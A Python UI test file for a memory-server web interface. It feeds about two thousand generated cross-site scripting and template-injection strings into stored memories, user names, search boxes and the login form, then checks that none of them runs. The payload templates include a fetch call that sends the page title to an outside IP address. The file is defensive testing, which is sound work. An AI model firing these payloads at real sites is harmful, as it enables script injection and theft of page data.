"""Two thousand texts that mean harm: none does anything, and each is shown as it was stored."""

from __future__ import annotations

import itertools
import json
import random
from collections.abc import Iterator
from typing import Any

import pytest
from chromium import Page
from inspecting import Show, asked_context, click, contents, enter

from openproto.server.keys import new_key

pytestmark = pytest.mark.ui

MANY = 2_000
ACTS = ["window.hacked=1", "alert(1)", "fetch('http://192.0.2.1/'+document.title)", "document.title='hacked'"]
FORMS = (
    """
<script>{}</script>
<ScRiPt src=//192.0.2.1>{}</sCrIpT>|<img src=x onerror="{}">|<svg onload={}>|"><img src=x onerror={}>
<svg><script>{}</script>|'><body onload={}>|</textarea><script>{}</script>|</title><script>{}</script>|javascript:{}
<a href="javascript:{}">x</a>|<iframe srcdoc="<script>{}</script>">|<math><mi xlink:href="javascript:{}">|${{{}}}
{{{{constructor.constructor('{}')()}}}}|<%= {} %>|#{{{}}}|`${{{}}}`|';{};//|\\";{};//|--></style><script>{}</script>
<style>@import url(//192.0.2.1/{})</style>|<div style="background:url(javascript:{})">|<base href=//192.0.2.1/>{}
<form action=javascript:{}><button>x</button></form>|<input autofocus onfocus={}>|<details open ontoggle={}>
<meta http-equiv=refresh content="0;url=javascript:{}">|<object data="data:text/html,<script>{}</script>">|__proto__{}
%3Cscript%3E{}%3C/script%3E|&lt;script&gt;{}&lt;/script&gt;|\\u003cscript\\u003e{}|]]><script>{}</script>
<template><script>{}</script></template>|<x onclick={} style=position:fixed;inset:0>
<noscript><p title="</noscript><img onerror={} src>">
""".strip()
    .replace("\n", "|")
    .split("|")
)
AROUND = [
    "", "\u202e", "\u2066", "\u200f", "\u202a\u202b\u2069", "\x01", "\x1b[31m", "\x7f", "\ufeff", "\u0085", "\u2028",
    "\ufffd", "שלום ", "السلام ", "a\u0301\u0302" * 20, "👩‍👩‍👧‍👦", "𝔘", "\r\n", "\t", "  ", "0", "null", "%00", "\\0",
    "z" * 300, "ﷺ" * 40, "\U000e0041",
]  # fmt: skip


def hostile(most: int) -> Iterator[str]:
    """Yield harmful texts within a length, each once."""
    rng = random.Random(7)
    seen: set[str] = set()
    for number in itertools.count():
        text = rng.choice(AROUND) + rng.choice(FORMS).format(rng.choice(ACTS)) + rng.choice(AROUND)
        if number % 97 == 0:
            text *= 200
        text = f"{text}{number}"[-most:]
        if text not in seen and text.strip():
            seen.add(text)
            yield text


def nothing_happened(page: Page) -> None:
    assert page.run("window.hacked === undefined && document.title === 'openproto'")
    made = page.run(
        """[...document.querySelectorAll('*')].filter(each =>
        ['SCRIPT', 'IFRAME', 'OBJECT', 'BASE', 'STYLE', 'TEMPLATE', 'FORM', 'IMG'].includes(each.tagName)
        || each.getAttributeNames().some(name => name.startsWith('on'))).map(each => each.outerHTML)
        .filter(html => !/^<script type="module" src="ui\\/app.js">|^<img src="ui\\/icon.svg"|^<form/.test(html))"""
    )
    assert (made, page.faults) == ([], [])


def rows(page: Page, count: int) -> dict[int, list[str]]:
    """Read every row of the table while scrolling through it: content, scope, and tags."""
    found: dict[int, list[str]] = {}
    page.run("document.querySelector('.table').scrollTop = 0")
    while len(found) < count:
        page.run("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
        for index, *texts in page.run(
            """[...document.querySelectorAll('.line')].map(each => [Number(each.dataset.index),
            ...['memory', 'scope', 'tags'].map(name => each.querySelector('.' + name).textContent)])"""
        ):
            found[index] = texts
        page.run("document.querySelector('.table').scrollTop += 2000")
    return found


def test_hostile_memories_are_shown_as_they_are_stored(page: Page, show: Show) -> None:
    server = show()
    texts, labels = hostile(20_000), hostile(120)
    stored: list[dict[str, Any]] = []
    for _ in range(MANY // 100):
        items = []
        for text in itertools.islice(texts, 100):
            label = next(labels)
            scope = "/".join(part for part in label.replace("*", "").split("/") if part.strip()) or "x"
            items.append({"content": text, "user_id": "ada", "scope": scope, "tags": [label], "key": label})
        outcomes = server.post("/memories/batch", json={"items": items}).json()["outcomes"]
        stored = [*(each["memory"] for each in reversed(outcomes)), *stored]

    page.look(width=1400, height=2600)
    enter(page, server)
    shown = rows(page, MANY)
    for index, record in enumerate(stored):
        whole = record["content"] if len(record["content"]) <= 1000 else f"{record['content'][:1000]}…"
        assert shown[index] == [whole, record["scope"], "".join(record["tags"])], index
    nothing_happened(page)

    page.run("document.querySelector('.table').scrollTop = 0")
    page.pause(100)
    for index, record in enumerate(stored[:40]):
        page.run(f"document.querySelector('#row-{index}').click()")
        page.wait(f"document.querySelector('#life bdi.mono')?.textContent === {json.dumps(record['id'])}")
        assert page.texts("#life .content") == [record["content"]]
        assert {record["scope"], record["key"], "".join(record["tags"])} <= set(page.texts("#life dd"))
    assert set(page.texts(".tree bdi")) == {each["scope"].split("/")[0] for each in stored}
    page.run("location.hash = 'context'")
    asked_context(page, "script onerror alert")
    page.run("location.hash = 'duplicates'")
    page.wait_for(".page.broad .empty")
    nothing_happened(page)


def test_hostile_users_keys_queries_and_inputs_do_nothing(page: Page, show: Show) -> None:
    server = show()
    first, *others = users = sorted(itertools.islice(hostile(200), MANY))
    for some in (users[at : at + 100] for at in range(0, MANY, 100)):
        items = [{"content": user, "user_id": user} for user in some]
        assert server.post("/memories/batch", json={"items": items}).json()["outcomes"][-1]["status"] == 201
    enter(page, server, first)
    for seen in range(200, MANY, 200):
        click(page, "#side button", "each.textContent === 'More users'")
        page.wait(f"document.querySelectorAll('.users button').length > {seen}")
    assert set(page.texts(".users button")) == {first, *others}
    for text in itertools.islice(hostile(300), 12):
        page.run(f"""(box => {{ box.value = {json.dumps(text)}; box.dispatchEvent(new Event('input')); }})
            (document.querySelector('#search'))""")
        page.wait(
            "/hits? in/.test(document.querySelector('.status').textContent) || !document.querySelector('.empty').hidden"
        )
        page.run("document.querySelector('#search').value = ''")
        page.press("n").wait_for("#edit-content")
        page.type(text)
        page.press("Enter", 2).wait_for("#edit-dialog", 0)
    nothing_happened(page)
    assert len(contents(server, first)) == 13

    page.open(f"{show(new_key('all', ['*'])).base_url}/ui").wait_for("#login")
    for text in itertools.islice(hostile(300), 20):
        page.run(f"document.querySelector('#api-key').value = {json.dumps(text)}")
        page.run("document.querySelector('#login form').requestSubmit()")
        page.wait("!document.querySelector('#login-fault').hidden")
        page.run("document.querySelector('#login-fault').hidden = true")
    page.pause(200)
    page.faults[:] = [fault for fault in page.faults if "401" not in fault]
    nothing_happened(page)
